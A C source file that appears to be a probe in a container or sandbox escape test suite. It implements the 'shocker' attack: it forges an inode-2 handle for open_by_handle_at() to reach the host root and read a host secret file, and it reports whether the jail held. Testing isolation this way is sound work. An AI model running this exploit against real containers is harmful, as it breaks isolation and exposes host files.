/* fs: the "shocker" attack: open_by_handle_at() with a forged handle of
 * inode 2 (the root of an ext2/3/4 file system) against the mount of /usr,
 * which reaches the whole host disk, then the host secret relative to it.
 * Also name_to_handle_at() on / and /usr to get real handles. Needs
 * CAP_DAC_READ_SEARCH in the host's user namespace; seccomp refuses both. */
#include "probe.h"
#include <dirent.h>

struct handle {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[64];
};

static void use_root(int root, const char *how)
{
    const char *secret = param("JAILPROBE_HOSTFILE");
    DIR *d = fdopendir(dup(root));
    int n = 0;
    while (d && readdir(d))
        n++;
    char buf[256];
    int fd = openat(root, secret + 1, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (got >= 0) {
        buf[got] = 0;
        escaped("%s opened the host root (%d entries); read %s: %s", how, n, secret,
                excerpt(buf));
    } else {
        escaped("%s opened a directory with %d entries (secret: %s)", how, n, en(errno));
    }
}

int main(void)
{
    const char *mounts[] = {"/usr", "/", "/tmp", "/etc/passwd"};
    for (unsigned m = 0; m < sizeof mounts / sizeof *mounts; m++) {
        int mfd = open(mounts[m], O_RDONLY | O_CLOEXEC);
        if (mfd < 0)
            continue;
        /* FILEID_INO32_GEN (1): 32-bit inode 2, generation 0. */
        struct handle h = {.handle_bytes = 8, .handle_type = 1};
        unsigned int ino = 2, gen = 0;
        memcpy(h.f_handle, &ino, 4);
        memcpy(h.f_handle + 4, &gen, 4);
        int fd = syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
        char what[96];
        snprintf(what, sizeof what, "open_by_handle_at(%s, inode 2)", mounts[m]);
        if (fd >= 0)
            use_root(fd, what);
        else
            stopped("%s: %s", what, en(errno));

        struct handle real = {.handle_bytes = sizeof real.f_handle};
        int mount_id;
        if (syscall(SYS_name_to_handle_at, AT_FDCWD, mounts[m], &real, &mount_id, 0) == 0) {
            note("name_to_handle_at(%s) worked (type %d)", mounts[m], real.handle_type);
            int fd2 = syscall(SYS_open_by_handle_at, mfd, &real, O_RDONLY);
            snprintf(what, sizeof what, "open_by_handle_at(real handle of %s)", mounts[m]);
            if (fd2 >= 0)
                escaped("%s succeeded", what);
            else
                stopped("%s: %s", what, en(errno));
        } else {
            stopped("name_to_handle_at(%s): %s", mounts[m], en(errno));
        }
        close(mfd);
    }
    finish();
}
